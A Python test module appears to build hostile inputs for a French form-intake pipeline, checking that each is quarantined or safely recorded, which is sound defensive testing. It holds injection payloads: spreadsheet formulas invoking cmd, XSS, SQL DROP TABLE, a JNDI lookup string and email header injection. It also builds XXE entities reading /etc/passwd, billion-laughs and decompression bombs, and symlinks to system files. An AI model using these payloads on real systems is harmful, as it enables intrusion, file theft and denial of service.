"""A generator of hostile inputs, each built by the test from a real filled form or from nothing.

Every case says what it is, how to build it in a folder, and what must become of it: recorded
(`ENREGISTRE`), or quarantined with a reason containing the given French words.
"""

from __future__ import annotations

import io
import os
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

from workflow.intake.types import Statut

PAYLOADS: list[str | tuple[str, str]] = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://exemple.invalid/?x="&A1,"cliquer")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    ("-2+3+cmd|' /C calc'!A0", "- 2+3+cmd|' /C calc'!A0"),  # a leading dash reads as a list bullet
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7*7 }} {{ config }}",
    "{% for x in range(999999999) %}x{% endfor %}",
    "<script>alert('xss')</script><img src=x onerror=alert(1)>",
    "'; DROP TABLE soumissions; --",
    "../../../../etc/passwd",
    "${jndi:ldap://exemple.invalid/a}",
    "\u202eexe.fdp\u202c texte retourné",
    ("ligne 1\r\nBcc: victime@exemple.invalid", "ligne 1\nBcc: victime@exemple.invalid"),
    "A" * 20000,
]


@dataclass(frozen=True)
class Case:
    name: str  # file name in the inbox
    build: Callable[[Path, bytes], bytes | Callable[[Path], None]]  # bytes, or a maker of a special file
    expect: Statut = Statut.QUARANTAINE
    words: str = ""  # what the French reason must contain (lower case)
    payload: str = ""  # an answer that must come out literally
    literal: str = ""  # how it comes out, when reading normalises it (line ends, list bullets)
    absent: str = ""  # what must never reach the registry (a file an entity points to)


# --- zip and docx helpers -----------------------------------------------------------------------


def parts(docx: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def with_part(docx: bytes, name: str, data: bytes) -> bytes:
    return rezip({**parts(docx), name: data})


def with_body(docx: bytes, xml: bytes) -> bytes:
    """Replace what the body holds (the section properties kept)."""
    document = parts(docx)["word/document.xml"]
    start = document.index(b"<w:body>") + len(b"<w:body>")
    end = document.index(b"<w:sectPr")
    return with_part(docx, "word/document.xml", document[:start] + xml + document[end:])


def with_doctype(docx: bytes, doctype: bytes, body: bytes = b"") -> bytes:
    document = parts(docx)["word/document.xml"]
    document = document.replace(b"?>", b"?>" + doctype, 1)
    if body:
        document = document.replace(b"<w:body>", b"<w:body>" + body, 1)
    return with_part(docx, "word/document.xml", document)


def flag_entries(data: bytes, method: int | None = None, flag: int = 0) -> bytes:
    out = bytearray(data)
    for signature, flag_at, method_at in ((b"PK\x03\x04", 6, 8), (b"PK\x01\x02", 8, 10)):
        start = 0
        while (start := out.find(signature, start)) != -1:
            flags = struct.unpack_from("<H", out, start + flag_at)[0]
            struct.pack_into("<H", out, start + flag_at, flags | flag)
            if method is not None:
                struct.pack_into("<H", out, start + method_at, method)
            start += 4
    return bytes(out)


def zero_entry(name: str, size: int) -> bytes:
    """A zip whose one entry inflates to `size` zero bytes (built by streaming, never held whole)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w", force_zip64=True) as fh:
        block = bytes(1 << 20)
        for _ in range(size >> 20):
            fh.write(block)
    return out.getvalue()


P = b'<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>'
LAUGHS = (
    b'<!DOCTYPE w:document [<!ENTITY a "hahahahahahahahaha">'
    + b"".join(b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&" + bytes([97 + i]) + b";") * 10) for i in range(9))
    + b"]>"
)


# --- PDF helper -----------------------------------------------------------------------------------


def pdf(objects: list[bytes], root: int = 1, extra_trailer: bytes = b"") -> bytes:
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        extra_trailer,
        xref,
    )
    return out


def stream(data: bytes, compress: bool = True, extra: bytes = b"") -> bytes:
    body = zlib.compress(data, 6) if compress else data
    flate = b"/Filter /FlateDecode " if compress else b""
    return b"<< /Length %d %s%s>>\nstream\n" % (len(body), flate, extra) + body + b"\nendstream"


def one_page(content: bytes, compress: bool = True, resources: bytes = b"/Font << /F1 5 0 R >>") -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %s >> >>" % resources,
            stream(content, compress),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


TEXT = b"BT /F1 12 Tf 72 700 Td (Questionnaire d'engagement) Tj ET\n"


def deflated_zeros(size: int) -> bytes:
    packer = zlib.compressobj(1)
    block = bytes(1 << 20)
    return b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()


def zero_stream_pdf(size: int) -> bytes:
    data = deflated_zeros(size)
    content = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            content,
        ]
    )


def many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            stream(b"BT /F1 12 Tf 72 700 Td (page) Tj ET"),
            *[page] * count,
        ]
    )


def encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- e-mail helpers -------------------------------------------------------------------------------


def mail(form: bytes | None = b"", subject: str = "Réponse", name: str = "reponse.docx") -> EmailMessage:
    message = EmailMessage()
    message["From"] = "CAF <sophie@caf.example.fr>"
    message["To"] = "cohesion@cua.example.fr"
    message["Subject"] = subject
    message.set_content("Veuillez trouver notre réponse.")
    if form:
        message.add_attachment(form, maintype="application", subtype="octet-stream", filename=name)
    return message


def signed(form: bytes) -> bytes:
    inner = mail(form)
    del inner["From"], inner["To"], inner["Subject"]
    outer = EmailMessage()
    outer["From"] = "CAF <sophie@caf.example.fr>"
    outer["Subject"] = "Réponse signée"
    outer.set_type("multipart/signed")
    outer.set_param("protocol", "application/pkcs7-signature")
    outer.set_param("micalg", "sha-256")
    outer.attach(inner)
    signature = EmailMessage()
    signature.set_content(
        b"\x30\x82\x01\x00signature", maintype="application", subtype="pkcs7-signature", filename="smime.p7s"
    )
    outer.attach(signature)
    return bytes(outer)


def tnef(files: list[tuple[str, bytes]]) -> bytes:
    """A minimal TNEF stream (winmail.dat) carrying these files."""

    def attribute(level: int, name: int, kind: int, data: bytes) -> bytes:
        return struct.pack("<BHHI", level, name, kind, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)

    out = struct.pack("<IH", 0x223E9F78, 1) + attribute(1, 0x9006, 0x0008, struct.pack("<I", 0x10000))
    for name, data in files:
        out += attribute(2, 0x9002, 0x0006, bytes(14))
        out += attribute(2, 0x8010, 0x0001, name.encode() + b"\x00")
        out += attribute(2, 0x800F, 0x0006, data)
    return out


def with_tnef(form: bytes) -> bytes:
    message = mail(None, "Réponse depuis Outlook")
    message.add_attachment(
        tnef([("reponse.docx", form)]), maintype="application", subtype="ms-tnef", filename="winmail.dat"
    )
    return bytes(message)


def cp932_subject(form: bytes) -> bytes:
    raw = bytes(mail(form, "x"))
    subject = "①回答書～".encode("cp932")
    import base64

    word = b"=?shift_jis?B?" + base64.b64encode(subject) + b"?="
    return raw.replace(b"Subject: x", b"Subject: " + word, 1)


def nested_multipart(depth: int) -> bytes:
    head = b"From: a@b.fr\r\nSubject: imbrique\r\nMIME-Version: 1.0\r\n"
    body = b""
    for level in range(depth):
        body += b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (level, level)
    body += b"Content-Type: text/plain\r\n\r\ntexte\r\n"
    for level in reversed(range(depth)):
        body += b"--b%d--\r\n" % level
    return head + body


def nested_messages(form: bytes, depth: int) -> bytes:
    data = bytes(mail(form))
    for _ in range(depth):
        outer = mail(None, "Transfert")
        outer.add_attachment(data, maintype="application", subtype="octet-stream", filename="transfert.eml")
        data = bytes(outer)
    return data


def many_attachments(count: int) -> bytes:
    message = mail(None)
    for i in range(count):
        message.add_attachment(b"x%d" % i, maintype="text", subtype="plain", filename=f"note_{i}.txt")
    return bytes(message)


# --- special files --------------------------------------------------------------------------------


def fifo(path: Path) -> None:
    os.mkfifo(path)


def link_to(target: str | Callable[[Path], Path]) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        os.symlink(target(path) if callable(target) else target, path)

    return make


def unix_socket(path: Path) -> None:
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.close()


def outside_form(form: bytes) -> Callable[[Path], None]:
    """A link from the inbox to a valid form outside it: never followed."""

    def make(path: Path) -> None:
        target = path.parents[2] / "dehors" / "formulaire.docx"
        target.parent.mkdir(exist_ok=True)
        target.write_bytes(form)
        os.symlink(target, path)

    return make


# --- the cases ------------------------------------------------------------------------------------

Q = Statut.QUARANTAINE
OK = Statut.ENREGISTRE


def _zip_cases() -> list[Case]:
    junk = b"PK\x03\x04" + os.urandom(64)
    return [
        Case("tronque.docx", lambda t, f: f[: len(f) // 2], Q, "endommag"),
        Case("entete_seule.docx", lambda t, f: junk, Q, ""),
        Case("zip_vide.docx", lambda t, f: rezip({}), Q, "archive zip"),
        Case(
            "sans_document.docx",
            lambda t, f: rezip({k: v for k, v in parts(f).items() if k != "word/document.xml"}),
            Q,
            "",
        ),
        Case("document_pas_xml.docx", lambda t, f: with_part(f, "word/document.xml", b"pas du XML"), Q, "xml"),
        Case("document_vide.docx", lambda t, f: with_part(f, "word/document.xml", b""), Q, ""),
        Case("chemin_remontant.docx", lambda t, f: with_part(f, "../../../evil.txt", b"hors"), OK),
        Case("chemin_absolu.docx", lambda t, f: with_part(f, "/tmp/cdv-evil.txt", b"hors"), OK),
        Case(
            "bombe_zip.docx", lambda t, f: with_part(f, "word/media/zeros.bin", bytes(300 << 20)), Q, "trop volumineux"
        ),
        Case(
            "xml_enorme.docx", lambda t, f: with_part(f, "customXml/item9.xml", bytes(45 << 20)), Q, "trop volumineux"
        ),
        Case("zeros_seuls.docx", lambda t, f: zero_entry("word/document.xml", 64 << 20), Q, ""),
        Case(
            "chiffre_zipcrypto.docx",
            lambda t, f: flag_entries(rezip(parts(f), zipfile.ZIP_STORED), 0, 1),
            Q,
            "mot de passe",
        ),
        Case("deflate64.docx", lambda t, f: flag_entries(rezip(parts(f), zipfile.ZIP_STORED), 9), Q, "deflate64"),
        Case("aes.docx", lambda t, f: flag_entries(rezip(parts(f), zipfile.ZIP_STORED), 99), Q, "aes"),
        Case("methode_inconnue.docx", lambda t, f: flag_entries(rezip(parts(f), zipfile.ZIP_STORED), 77), Q, ""),
        Case("mille_entrees.docx", lambda t, f: rezip({**parts(f), **{f"x/{i}.bin": b"" for i in range(5000)}}), OK),
        Case("zip_dans_docx.docx", lambda t, f: with_part(f, "word/embeddings/a.zip", rezip({"a": bytes(1000)})), OK),
        Case("crc_faux.docx", lambda t, f: _bad_crc(f), Q, ""),
        Case("zip_ordinaire.docx", lambda t, f: rezip({"a.txt": b"bonjour"}), Q, "archive zip"),
        Case(
            "odt_chiffre.odt",
            lambda t, f: rezip(
                {
                    "mimetype": b"application/vnd.oasis.opendocument.text",
                    "META-INF/manifest.xml": b"<manifest:encryption-data/>",
                }
            ),
            Q,
            "mot de passe",
        ),
        Case(
            "odt_faux_mimetype.docx",
            lambda t, f: rezip({"mimetype": b"application/x-autre", "a": b"b"}),
            Q,
            "archive zip",
        ),
        Case("commentaire_enorme.docx", lambda t, f: f[:-2] + struct.pack("<H", 65535) + os.urandom(65535), OK),
        Case("strict.docx", lambda t, f: _strict(f, only_document=False), Q, "strict"),
        Case("strict_document_seul.docx", lambda t, f: _strict(f, only_document=True), Q, "strict"),
    ]


def _bad_crc(form: bytes) -> bytes:
    data = bytearray(rezip(parts(form), zipfile.ZIP_STORED))
    at = data.find(b"word/document.xml") + len(b"word/document.xml") + 200
    data[at] ^= 0xFF
    return bytes(data)


def _strict(form: bytes, only_document: bool) -> bytes:
    moves = {
        b"http://schemas.openxmlformats.org/wordprocessingml/2006/main": b"http://purl.oclc.org/ooxml/wordprocessingml/main",
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": (
            b"http://purl.oclc.org/ooxml/officeDocument/relationships"
        ),
    }
    files = parts(form)
    for name in files:
        if name == "word/document.xml" or (not only_document and name.endswith((".xml", ".rels"))):
            for old, new in moves.items():
                files[name] = files[name].replace(old, new)
    return rezip(files)


def _xml_cases() -> list[Case]:
    xxe = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return [
        Case("xxe_fichier.docx", lambda t, f: with_doctype(f, xxe, P % b"&xxe;"), OK, absent="root:x:0"),
        Case("xxe_doctype_seul.docx", lambda t, f: with_doctype(f, xxe), OK),
        Case(
            "xxe_parametre.docx",
            lambda t, f: with_doctype(f, b'<!DOCTYPE w:document [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'),
            OK,
            absent="root:x:0",
        ),
        Case(
            "xxe_dtd_externe.docx",
            lambda t, f: with_doctype(f, b'<!DOCTYPE w:document SYSTEM "http://exemple.invalid/evil.dtd">'),
            OK,
        ),
        Case(
            "xxe_types.docx",
            lambda t, f: with_part(
                f,
                "[Content_Types].xml",
                parts(f)["[Content_Types].xml"].replace(
                    b"?>", b'?><!DOCTYPE Types [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1
                ),
            ),
            OK,
        ),
        Case("milliard_de_rires.docx", lambda t, f: with_doctype(f, LAUGHS, P % b"&j;"), Q, ""),
        Case(
            "explosion_quadratique.docx",
            lambda t, f: with_doctype(
                f, b'<!DOCTYPE w:document [<!ENTITY a "' + b"x" * 100000 + b'">]>', (P % b"&a;") * 2000
            ),
            Q,
            "",
        ),
        Case(
            "xinclude.docx",
            lambda t, f: with_body(
                f,
                b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                b'href="file:///etc/passwd" parse="text"/>' + P % b"x",
            ),
            Q,
            "",
        ),
        Case("imbrication_profonde.docx", lambda t, f: with_body(f, b"<w:p>" * 100000 + b"</w:p>" * 100000), Q, ""),
        Case("attribut_enorme.docx", lambda t, f: with_body(f, b'<w:p w:rsidR="' + b"A" * (5 << 20) + b'"/>'), Q, ""),
        Case("utf8_invalide.docx", lambda t, f: with_body(f, P % b"\xff\xfe\xc3"), Q, "xml"),
        Case(
            "utf16.docx",
            lambda t, f: with_part(
                f,
                "word/document.xml",
                parts(f)["word/document.xml"]
                .replace(b'encoding="UTF-8"', b'encoding="UTF-16"')
                .decode()
                .encode("utf-16"),
            ),
            OK,
        ),
        Case("instructions_traitement.docx", lambda t, f: with_body(f, b"<?evil commande?>" * 1000), Q, ""),
        Case(
            "tableaux_imbriques.docx",
            lambda t, f: with_body(f, b"<w:tbl><w:tr><w:tc>" * 300 + P % b"x" + b"</w:tc></w:tr></w:tbl>" * 300),
            Q,
            "",
        ),
    ]


def _extension_cases() -> list[Case]:
    return [
        Case("pdf_nomme.docx", lambda t, f: one_page(TEXT), Q, "ni un questionnaire"),
        Case("docx_nomme.pdf", lambda t, f: f, OK),
        Case("texte_nomme.docx", lambda t, f: "Réponse : oui\n".encode() * 10, Q, "texte"),
        Case("png_nomme.docx", lambda t, f: b"\x89PNG\r\n\x1a\n" + os.urandom(2000), Q, "image endommagée"),
        Case("html_nomme.doc", lambda t, f: b"<html><body><p>Questionnaire</p></body></html>", Q, "texte"),
        Case("vide.docx", lambda t, f: b"", Q, "vide"),
        Case("blancs.docx", lambda t, f: b" \n\t\r\n" * 100, Q, "vide"),
        Case("aleatoire.docx", lambda t, f: os.urandom(5000), Q, ""),
        Case("json_nomme.docx", lambda t, f: b'{"organisme": "=cmd"}', Q, "texte"),
        Case("word2003.docx", lambda t, f: b'<?xml version="1.0"?><w:wordDocument/>', Q, "xml"),
        Case("eml_nomme.docx", lambda t, f: bytes(mail(f)), OK),
        Case("ole_vide.doc", lambda t, f: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Q, ""),
        Case("nul_au_debut.docx", lambda t, f: b"\x00" * 100 + f, Q, ""),
    ]


def _special_cases() -> list[Case]:
    return [
        Case("tube.docx", lambda t, f: fifo, Q, "fifo"),
        Case("vers_zero.docx", lambda t, f: link_to("/dev/zero"), Q, "lien symbolique"),
        Case("vers_passwd.docx", lambda t, f: link_to("/etc/passwd"), Q, "lien symbolique"),
        Case("lien_casse.docx", lambda t, f: link_to("/nulle/part/x.docx"), Q, "lien symbolique"),
        Case("lien_vers_dehors.docx", lambda t, f: outside_form(f), Q, "lien symbolique"),
        Case("socket.docx", lambda t, f: unix_socket, Q, "socket"),
    ]


def _pdf_cases() -> list[Case]:
    loop = pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])
    return [
        Case("couche_texte_50mo.pdf", lambda t, f: one_page(TEXT * ((50 << 20) // len(TEXT))), Q, "trop volumineux"),
        Case("flux_1gio.pdf", lambda t, f: zero_stream_pdf(1 << 30), Q, "trop volumineux"),
        Case("boucle_pages.pdf", lambda t, f: loop, Q, ""),
        Case("boucle_xref.pdf", lambda t, f: loop.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9"), Q, ""),
        Case(
            "tableaux_profonds.pdf",
            lambda t, f: pdf([b"<< /Type /Catalog /X " + b"[" * 50000 + b"]" * 50000 + b" >>"]),
            Q,
            "",
        ),
        Case("dix_mille_pages.pdf", lambda t, f: many_pages(3000), Q, ""),
        Case("tronque.pdf", lambda t, f: one_page(TEXT)[:200], Q, ""),
        Case("sans_xref.pdf", lambda t, f: b"%PDF-1.4\n1 0 obj << >> endobj\n%%EOF", Q, ""),
        Case("chiffre.pdf", lambda t, f: encrypted_pdf(), Q, "mot de passe"),
        Case(
            "javascript.pdf",
            lambda t, f: one_page(TEXT).replace(
                b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
            ),
            Q,
            "ni un questionnaire",
        ),
        Case("xobjet_bombe.pdf", lambda t, f: _xobject_bomb(), Q, "trop volumineux"),
        Case("xobjet_recursif.pdf", lambda t, f: _recursive_xobject(), Q, ""),
        Case(
            "image_geante.pdf",
            lambda t, f: one_page(
                b"q 595 0 0 842 0 0 cm /Im1 Do Q",
                resources=(
                    b"/XObject << /Im1 << /Type /XObject /Subtype /Image /Width 100000 /Height 100000 "
                    b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 0 >> >>"
                ),
            ),
            Q,
            "",
        ),
        Case("scanne.pdf", lambda t, f: one_page(b"q Q"), Q, "sans texte"),
    ]


def _xobject_bomb() -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /XObject << /X1 5 0 R >> /Font << /F1 6 0 R >> >> >>",
            stream(b"/X1 Do"),
            stream(TEXT * ((8 << 20) // len(TEXT)), extra=b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def _recursive_xobject() -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /XObject << /X1 5 0 R >> >> >>",
            stream(b"/X1 Do"),
            stream(
                b"/X1 Do",
                extra=b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X1 5 0 R >> >> ",
            ),
        ]
    )


def _mail_cases() -> list[Case]:
    return [
        Case("signe_smime.eml", lambda t, f: signed(f), OK),
        Case("winmail.eml", lambda t, f: with_tnef(f), OK),
        Case("sujet_cp932.eml", lambda t, f: cp932_subject(f), OK),
        Case(
            "injection_entete.eml",
            lambda t, f: bytes(mail(f, "x")).replace(
                b"Subject: x", b"Subject: x\r\nBcc: victime@exemple.invalid\r\n\r\nfaux corps", 1
            ),
            Q,
            "sans formulaire",
        ),
        Case("dix_mille_entetes.eml", lambda t, f: b"X-A: b\r\n" * 10000 + bytes(mail(f)), OK),
        Case("ligne_enorme.eml", lambda t, f: b"Subject: " + b"A" * (1 << 20) + b"\r\n" + bytes(mail(f)), OK),
        Case("base64_invalide.eml", lambda t, f: bytes(mail(f)).replace(b"UEsDB", b"!!!!!", 1), Q, ""),
        Case(
            "sans_frontiere.eml",
            lambda t, f: b"From: a@b.fr\r\nContent-Type: multipart/mixed\r\n\r\nrien\r\n",
            Q,
            "sans formulaire",
        ),
        Case("imbrication_mime.eml", lambda t, f: nested_multipart(60), Q, ""),
        Case("transferts_imbriques.eml", lambda t, f: nested_messages(f, 6), OK),
        Case("nom_remontant.eml", lambda t, f: bytes(mail(f, name="../../../../tmp/cdv-evil.docx")), OK),
        Case(
            "nom_controle.eml",
            lambda t, f: bytes(mail(f)).replace(
                b'filename="reponse.docx"', b"filename*=utf-8''a%00b%1B%5B31m%0A.docx", 1
            ),
            OK,
        ),
        Case("nom_long.eml", lambda t, f: bytes(mail(f, name="n" * 1000 + ".docx")), OK),
        Case("nom_vide.eml", lambda t, f: bytes(mail(f, name="...")), OK),
        Case(
            "nom_charset_inconnu.eml",
            lambda t, f: bytes(mail(f)).replace(
                b'filename="reponse.docx"', b"filename*=x-inconnu''r%C3%A9ponse.docx", 1
            ),
            OK,
        ),
        Case("cent_cinquante_pieces.eml", lambda t, f: many_attachments(150), Q, "trop volumineux"),
        Case("memes_noms.eml", lambda t, f: _same_names(f), OK),
        Case("charset_inconnu.eml", lambda t, f: bytes(mail(f)).replace(b'charset="utf-8"', b'charset="x-42"', 1), OK),
        Case("message_id_casse.eml", lambda t, f: b"Message-ID: <[id@domain.com]>\r\n" + bytes(mail(f)), OK),
        Case("date_cassee.eml", lambda t, f: b"Date: lundi prochain 99:99\r\n" + bytes(mail(f)), OK),
        Case("entetes_seuls.eml", lambda t, f: b"From: a@b.fr\r\nSubject: rien\r\n", Q, "sans formulaire"),
        Case(
            "qp_casse.eml",
            lambda t, f: b"From: a@b.fr\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=\r\n",
            Q,
            "sans formulaire",
        ),
        Case("tnef_abime.eml", lambda t, f: _broken_tnef(), Q, "sans formulaire"),
        Case("signature_seule.eml", lambda t, f: _signature_only(), Q, "sans formulaire"),
        *_smime_cases(),
    ]


def _smime_cases() -> list[Case]:
    import smime_mail as sm  # cryptography: loaded only where the S/MIME cases are built

    return [
        Case("smime_opaque.eml", lambda t, f: sm.opaque_signed(f), OK),
        Case("smime_chiffre.eml", lambda t, f: sm.encrypted(f), Q, "courriel chiffré"),
        Case("smime_signe_puis_chiffre.eml", lambda t, f: sm.signed_then_encrypted(f), Q, "courriel chiffré"),
        Case(
            "smime_abime.eml", lambda t, f: sm.opaque(b"\x30\x80" + b"\xff" * 64, "signed-data"), Q, "sans formulaire"
        ),
        Case(
            "smime_imbrique.eml",
            lambda t, f: sm.opaque(_signed_many(sm, sm.content(f), 11), "signed-data"),
            Q,
            "imbriquées",
        ),
    ]


def _signed_many(sm, entity: bytes, depth: int) -> bytes:
    """Signed data inside signed data, `depth` times: the nesting limit holds."""
    der = sm.signed_der(entity)
    for _ in range(depth):
        der = sm.signed_der(bytes(sm.pkcs7_part(der, "signed-data")))
    return der


def _same_names(form: bytes) -> bytes:
    message = mail(form, name="x.docx")
    message.add_attachment(form[:-1] + b"\x01", maintype="application", subtype="octet-stream", filename="x.docx")
    return bytes(message)


def _broken_tnef() -> bytes:
    message = mail(None)
    message.add_attachment(
        b"\x78\x9f\x3e\x22" + os.urandom(100), maintype="application", subtype="ms-tnef", filename="winmail.dat"
    )
    return bytes(message)


def _signature_only() -> bytes:
    message = mail(None)
    message.add_attachment(b"\x30\x82", maintype="application", subtype="pkcs7-signature", filename="smime.p7s")
    return bytes(message)


def _huge_cases() -> list[Case]:
    return [
        Case(
            "deux_cent_mille_paragraphes.docx", lambda t, f: with_body(f, (P % b"ligne") * 200000), Q, "trop volumineux"
        ),
        Case(
            "soixante_mille_cellules.docx",
            lambda t, f: with_body(
                f, b"<w:tbl>" + (b"<w:tr>" + (b"<w:tc>" + P % b"c" + b"</w:tc>") * 20 + b"</w:tr>") * 3000 + b"</w:tbl>"
            ),
            Q,
            "trop volumineux",
        ),
        Case("texte_50mo.docx", lambda t, f: b"x" * (50 << 20), Q, "texte"),
        Case("courriel_70mo.eml", lambda t, f: b"From: a@b.fr\r\n\r\n" + b"x" * (70 << 20), Q, "trop volumineux"),
        Case("mille_pages.pdf", lambda t, f: many_pages(1000), Q, ""),
    ]


def _payload_cases() -> list[Case]:
    cases = []
    for i, payload in enumerate(PAYLOADS):
        given, literal = payload if isinstance(payload, tuple) else (payload, payload)
        cases.append(Case(f"reponse_piegee_{i}.docx", _marker(i), OK, payload=given, literal=literal))
    return cases


def _marker(index: int) -> Callable[[Path, bytes], bytes]:
    def build(tmp: Path, form: bytes) -> bytes:
        raise AssertionError("filled by the test with the payload")  # pragma: no cover

    build.__name__ = f"payload_{index}"
    return build


def all_cases() -> list[Case]:
    return [
        *_zip_cases(),
        *_xml_cases(),
        *_extension_cases(),
        *_special_cases(),
        *_pdf_cases(),
        *_mail_cases(),
        *_huge_cases(),
        *_payload_cases(),
    ]
